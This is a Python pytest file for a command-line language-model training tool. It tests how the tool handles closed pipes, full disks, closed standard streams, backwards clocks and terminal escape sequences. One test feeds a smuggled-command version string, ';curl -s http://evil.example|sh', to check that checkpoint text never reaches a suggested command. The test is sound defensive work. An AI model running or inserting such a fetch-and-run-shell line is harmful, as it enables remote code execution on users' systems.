"""Where the output goes: pipes that close, terminals that lack characters, no terminal, a clock that jumps."""

import json
import os
import shlex
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import lmtrain.training.bar as bar

SAMPLE = [sys.executable, "-m", "lmtrain", "sample", "run", "--max-tokens"]


def test_a_reader_that_goes_away_ends_sampling_quietly(place: Path) -> None:
    process = subprocess.Popen([*SAMPLE, "1000000"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None
    assert process.stderr is not None
    assert len(process.stdout.read(20)) == 20
    process.stdout.close()
    assert process.stderr.read() == b""
    assert process.wait(timeout=60) == 0
    process.stderr.close()


@pytest.mark.parametrize(
    ("arguments", "unbuffered"),
    [
        *((arguments, unbuffered) for arguments in (["--help"], ["settings"], ["score", "--help"], ["--cfg", "job"])
          for unbuffered in ("", "1")),
        (["sample", "run"], ""), pytest.param(["sample", "run"], "1", marks=pytest.mark.slow),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "unbuffered" if value else "buffered",
)  # fmt: skip
def test_output_that_cannot_be_written_is_said_in_one_line(arguments: list[str], unbuffered: str, place: Path) -> None:
    with open("/dev/full", "w", encoding="utf-8") as full:
        result = subprocess.run(
            [*SAMPLE[:3], *arguments], env=os.environ | {"PYTHONUNBUFFERED": unbuffered}, stdout=full, stderr=subprocess.PIPE,
            timeout=60, check=False,
        )  # fmt: skip
    assert result.returncode == 6
    assert result.stderr.startswith(b"lmtrain: Standard output cannot be written: No space left on device. Free some space")
    assert result.stderr.count(b"\n") == 1


def test_characters_that_the_terminal_lacks_are_written_as_escapes(place: Path) -> None:
    environment = os.environ | {"PYTHONIOENCODING": "ascii"}
    command = [*SAMPLE, "3", "--prompt", "thé ☃"]
    result = subprocess.run(command, env=environment, capture_output=True, timeout=60, check=True)
    assert result.stdout.startswith(rb"th\xe9 \u2603")


def test_without_a_terminal_there_are_plain_lines_and_no_bar(
    place: Path, call: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bar, "FIRST_LINES_SECONDS", 0.0)
    monkeypatch.setattr(bar, "LINE_SECONDS", 0.0)
    ended = call("TRAIN", "hydra.run.dir=plain")
    lines = ended.err.splitlines()
    assert len(lines) == 6, "one for every step"
    assert all(f"step={number} " in line and "loss=" in line for number, line in enumerate(lines, 1))
    assert all(" tokens/s=" in line for line in lines[1:])
    assert "\r" not in ended.err


def test_durations_do_not_depend_on_the_time_of_day(
    place: Path, call: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A clock that goes backwards an hour with every look neither ends a run early nor makes a duration negative."""
    now = time.time()

    def backwards() -> float:
        nonlocal now
        now -= 3600
        return now

    monkeypatch.setattr(time, "time", backwards)
    assert call("TRAIN", "hydra.run.dir=back", "trainer.num_steps=null", "trainer.max_seconds=0.3").code == 0
    from lmtrain.training.checkpoint import find_checkpoint, load_checkpoint

    state = load_checkpoint(find_checkpoint("back", "last")).documents["training"]["state"]
    assert 0.3 <= state["elapsed_seconds"] < 30


TRAIN = ["data=text", "data.path=text.txt", "model.hidden_size=8", "trainer.num_steps=2", "trainer.batch_size=4"]


@pytest.mark.parametrize(
    "closed",
    [
        pytest.param("<&-", marks=pytest.mark.slow),
        pytest.param(">&-", marks=pytest.mark.slow),
        pytest.param("2>&-", marks=pytest.mark.slow),
        "<&- >&- 2>&-",
    ],
)
def test_standard_streams_that_are_closed_end_nothing(closed: str, place: Path) -> None:
    """As daemons and cron wrappers leave them; files opened later do not get their descriptors."""
    command = f'exec "$0" -m lmtrain "$@" {closed}'
    training = ["sh", "-c", command, sys.executable, *TRAIN, "hydra.run.dir=closed"]
    result = subprocess.run(training, capture_output=True, timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    records = (place / "closed" / "metrics.jsonl").read_bytes().splitlines()
    assert all(record.startswith(b"{") for record in records)
    reading = ["sh", "-c", command, sys.executable, "score", "run", "-"]
    result = subprocess.run(reading, input=b"the cat\n", capture_output=True, timeout=60, check=False)
    assert result.returncode == (3 if "<" in closed else 0)
    if closed == "<&-":
        assert result.stderr.startswith(b"lmtrain: Standard input is closed.")


def test_messages_that_cannot_be_written_change_neither_work_nor_exit_code(place: Path) -> None:
    with open("/dev/full", "w", encoding="utf-8") as full:
        for arguments, code in ((["score", "run", "nosuch"], 3), ([*TRAIN, "hydra.run.dir=full"], 0)):
            command = [*SAMPLE[:3], *arguments]
            result = subprocess.run(command, stdout=subprocess.DEVNULL, stderr=full, timeout=120, check=False)
            assert result.returncode == code
        result = subprocess.run([*SAMPLE[:3], "runs", "full"], stdout=full, stderr=full, timeout=60, check=False)
        assert result.returncode == 6
    assert (place / "full" / "checkpoints").is_dir()


def test_a_training_whose_reader_goes_away_has_failed(place: Path) -> None:
    command = shlex.join([*SAMPLE[:3], *TRAIN, "hydra.run.dir=unread"])
    script = f"set -o pipefail; {command} 2>&1 | head -c 1 > first"
    result = subprocess.run(["bash", "-c", script], capture_output=True, timeout=120, check=False)
    assert result.returncode == 6
    assert b"Traceback" not in result.stderr


def test_standard_input_that_cannot_be_read_is_a_paragraph(
    place: Path, call: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    descriptor = os.open("only.written", os.O_WRONLY | os.O_CREAT)
    with os.fdopen(descriptor, "r", encoding="utf-8") as file:  # as Python makes `sys.stdin` of such a descriptor
        monkeypatch.setattr(sys, "stdin", file)
        ended = call("score", "run", "-")
    assert ended.code == 3
    assert ended.err.startswith("lmtrain: ")


def test_no_vocabulary_makes_a_terminal_obey(place: Path, call: Callable[..., Any]) -> None:
    """A pipe gets the text as it is."""
    prompt = ["--prompt", "the \x1b[31m\u202e cat"]
    assert call("sample", "run", "--max-tokens", "3", *prompt).out.startswith("the \x1b[31m\u202e cat")
    ours, theirs = os.openpty()
    subprocess.run([*SAMPLE, "3", *prompt], stdout=theirs, stderr=subprocess.PIPE, timeout=60, check=True)
    os.close(theirs)
    with open(ours, "rb") as terminal:
        written = terminal.read1()
    assert written.startswith(rb"the \x1b[31m\u202e cat")


@pytest.mark.parametrize(
    ("version", "remedy"),
    [
        ('1";curl -s http://evil.example|sh #\x1b[31m', "Install a newer lmtrain."),
        ("9.1\n", "Install a newer lmtrain."),
        ("9.1.dev2+abc", 'Type: pip install "lmtrain>=9.1.dev2+abc"'),
    ],
)
def test_no_text_of_a_checkpoint_is_part_of_a_command_to_type(
    version: str, remedy: str, place: Path, call: Callable[..., Any]
) -> None:
    from lmtrain.training.checkpoint import _fingerprint, find_checkpoint

    path = find_checkpoint("run", "last")
    manifest = json.loads((path / "manifest.json").read_bytes()) | {"schema": 99, "lmtrain": version}
    (path / "manifest.json").write_text(json.dumps(manifest | {"sha256": _fingerprint(manifest)}), encoding="utf-8")
    ended = call("sample", str(path))
    assert ended.code == 4
    assert ended.err.rstrip().endswith(remedy)
    assert "\x1b" not in ended.err
    assert "| curl" not in ended.err


def test_what_a_message_holds_of_others_is_shown_and_not_obeyed(place: Path, call: Callable[..., Any]) -> None:
    name = "a\x1b]0;title\x07\u202eb"
    ended = call("score", "run", name)
    assert ended.code == 3
    assert r"a\x1b]0;title\x07\u202eb" in ended.err
    ended = call("TRAIN", f'hydra.run.dir="{name}"')
    assert ended.code == 0
    assert not {"\x1b", "\x07", "\u202e"} & set(ended.out + ended.err)
    (line,) = [line for line in ended.out.splitlines() if "lmtrain sample" in line]
    shell = subprocess.run(
        ["sh", "-c", f"printf '%s' {line.split('sample ')[1].split(' --prompt')[0]}"], capture_output=True, check=True
    )
    assert shell.stdout.decode() == name
